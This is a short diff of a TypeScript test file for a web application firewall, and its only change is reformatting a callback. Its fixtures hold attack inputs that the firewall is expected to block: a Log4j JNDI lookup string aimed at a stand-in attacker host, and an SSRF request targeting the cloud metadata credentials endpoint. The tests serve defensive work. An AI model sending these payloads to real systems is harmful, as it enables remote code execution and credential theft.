@@ -75,9 +75,7 @@ test.each<[string, FirewallRequest, string]>([
   ['a scanner of Log4j', get('/', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }), 'BLOCK Log4JRCE_HEADER'],
   ['a request for the credentials of a machine', get('/go?to=http://169.254.169.254/latest'), 'BLOCK EC2MetaDataSSRF_QUERYARGUMENTS'],
   ['WebDAV', { method: 'PROPFIND', uri: '/' }, 'BLOCK PROPFIND_METHOD'],
-])('%s', (_, request, expected) => {
-  expect(outcome(request)).toBe(expected);
-});
+])('%s', (_, request, expected) => expect(outcome(request)).toBe(expected));
 
 test.each(['/a.js', '/a.png'])('a preflight request of %s reaches the backend with all that its answer depends on, which is part of the cache key', (path) => {
   const names = ['host', ...Object.keys(preflight)];
